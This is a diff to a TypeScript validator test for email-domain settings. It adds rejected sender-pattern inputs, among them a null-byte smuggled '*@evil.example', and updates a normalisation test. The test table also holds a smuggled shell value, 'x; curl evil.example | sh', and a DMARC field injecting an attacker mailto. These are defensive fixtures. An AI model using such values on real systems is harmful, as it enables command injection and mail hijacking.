@@ -159,7 +159,12 @@ test.each<[path: string, value: string]>([
   ['choices.sendsBy', ''],
   ['choices.senders', '*'],
   ['choices.senders', '*@*'],
-  ['choices.senders', '*@acme.example,*@evil.example'],
+  ['choices.senders', '*@acme.example,*'],
+  ['choices.senders', '*@acme.example *@*.example'],
+  ['choices.senders', '*@acme.example;*@evil.example'],
+  ['choices.senders', ' , '],
+  ['choices.senders', ''],
+  ['choices.senders', '*@acme.example\u0000*@evil.example'],
   ['choices.dmarcRua', 'postmaster@acme.example; p=none'],
   ['choices.dmarcRua', 'postmaster@acme.example,mailto:x@evil.example'],
   ['choices.smtpUser', 'x; curl evil.example | sh'],
@@ -188,13 +193,21 @@ test('what the flags would normalise is read in that form', () => {
       ...emptyChecklist('lineage'),
       domain: 'ACME.example',
       account: '1234-5678-9012',
-      choices: { hostedZoneId: '/hostedzone/Z1', senders: '*@ACME.example', later: '$(kept)' },
+      choices: {
+        hostedZoneId: '/hostedzone/Z1',
+        senders: '*@ACME.example, a@news.acme.example',
+        later: '$(kept)',
+      },
     }),
   );
   expect(content).toMatchObject({
     domain: 'acme.example',
     account: '123456789012',
-    choices: { hostedZoneId: 'Z1', senders: '*@acme.example', later: '$(kept)' },
+    choices: {
+      hostedZoneId: 'Z1',
+      senders: '*@acme.example a@news.acme.example',
+      later: '$(kept)',
+    },
   });
 });
 
